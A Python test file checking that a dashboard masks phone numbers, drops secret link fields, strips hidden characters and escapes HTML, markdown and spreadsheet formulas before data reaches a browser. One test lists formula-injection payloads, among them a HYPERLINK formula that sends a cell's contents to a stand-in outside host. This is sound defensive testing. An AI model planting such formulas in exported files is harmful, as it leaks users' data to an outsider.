"""What is sent to a browser, and in which form."""

from __future__ import annotations

from datetime import UTC, datetime

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from lib.model import frames
from lib.model.frames import Privacy, privacy_of
from lib.ui import html_components as html
from lib.ui import tables
from lib.ui.labels import Sign, Tone
from lib.ui.masking import MASK, for_browser, in_chart, outside, phone, plain, shared

NUMBER = "+447700900123"


def texts() -> pd.DataFrame:
    row = {
        "sid": "SM1",
        "status": "sent",
        "direction": "outbound-api",
        "to_number": NUMBER,
        "link_code": "c0de",
        "link_url": "https://l.example/c0de",
        "error_message": f"to {NUMBER} <b>failed</b>",
        "created_at": pd.Timestamp("2026-11-22", tz="UTC"),
    }
    return frames.frame(frames.TEXTS, [row])


def test_secrets_are_dropped_numbers_masked_and_the_rest_is_left_as_it_is() -> None:
    shown = for_browser(texts(), frames.TEXTS, sharing=False)
    assert "link_code" not in shown and "link_url" not in shown
    assert shown.loc[0, "to_number"] == "+•• •••• ••123"
    assert shown.loc[0, "error_message"] == "to … <b>failed</b>"
    assert shown.loc[0, "sid"] == "SM1"


def test_a_shared_screen_has_no_digit_of_a_number() -> None:
    shown = for_browser(texts(), frames.TEXTS, sharing=True)
    assert not any(character.isdigit() for character in shown.loc[0, "to_number"])


def test_a_column_that_nobody_declared_is_masked() -> None:
    shown = for_browser(texts().assign(full_name="Jane"), frames.TEXTS, sharing=False)
    assert list(shown["full_name"]) == [MASK]


def test_the_frame_itself_and_its_index_do_not_leak() -> None:
    frame = texts().set_index(pd.Index([NUMBER]))
    before = frame.copy()
    assert list(for_browser(frame, frames.TEXTS, sharing=False).index) == [0]
    pd.testing.assert_frame_equal(frame, before)


def test_an_empty_table_keeps_its_columns() -> None:
    shown = for_browser(frames.frame(frames.TEXTS, []), frames.TEXTS, sharing=False)
    assert shown.empty and "to_number" in shown


ALL_TABLES = [value for value in vars(tables).values() if isinstance(value, tables.Table)]


@pytest.mark.parametrize("table", ALL_TABLES, ids=lambda table: table.columns[0].label)
def test_every_column_that_a_table_shows_is_declared_and_none_is_secret(table: tables.Table) -> None:
    assert [c.name for c in table.columns if privacy_of(table.schema, c.name) in (None, Privacy.SECRET)] == []


@pytest.mark.parametrize("formula", ['=HYPERLINK("https://x.example/?"&A2,"log")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"])
def test_a_strangers_formula_is_text_in_a_table_that_somebody_takes_along(formula: str) -> None:
    frame = frames.frame(frames.ALERTS, [{"sid": "NO1", "text": formula, "created_at": datetime.now(UTC)}])
    cell = for_browser(frame, frames.ALERTS, sharing=False).loc[0, "text"]
    assert cell.startswith("'") and cell.endswith(formula.strip()[-3:])


def test_text_from_outside_is_one_redacted_line_without_hidden_characters() -> None:
    assert outside(f"call\n\t{NUMBER}\u202e now\x00\u200b") == "call … now"
    assert len(outside("word " * 500)) <= 400


@given(st.text())
def test_text_from_outside_never_breaks_out_of_a_component(text: str) -> None:
    assert card_of(text).count("<") == card_of("").count("<")


def card_of(text: str) -> str:
    return str(html.card(text, html.facts((("name", text),)), sign=Sign("ok", "✓", Tone.GOOD)))


@given(st.text(alphabet="[]()*_`<>$:~#|&\\abc.@/", max_size=60))
def test_plain_text_leaves_no_markdown_character_alone(text: str) -> None:
    escaped = plain(text)
    position = 0
    while position < len(escaped):
        if escaped[position] == "\\":
            position += 2
            continue
        assert escaped[position] not in "[]()*_`<>$:~#|&"
        position += 1


def test_a_charts_words_are_escaped() -> None:
    assert in_chart("<a href='x'>here</a>") == "&lt;a href=&#x27;x&#x27;&gt;here&lt;/a&gt;"


@pytest.mark.parametrize("value", [None, float("nan"), pd.NA, "LANTERN", ""])
def test_what_is_no_number_is_masked_as_well(value: object) -> None:
    assert "LANTERN" not in phone(value, sharing=False)


def test_a_text_of_ours_shows_no_digit_of_a_masked_number_on_a_shared_screen() -> None:
    call = f"POST /api/bookings/initiate  event_id: 7, mobile_number: {phone(NUMBER, sharing=False)}"
    assert shared(call, sharing=False) == call and call.endswith("123")
    assert shared(call, sharing=True).endswith(phone(NUMBER, sharing=True))
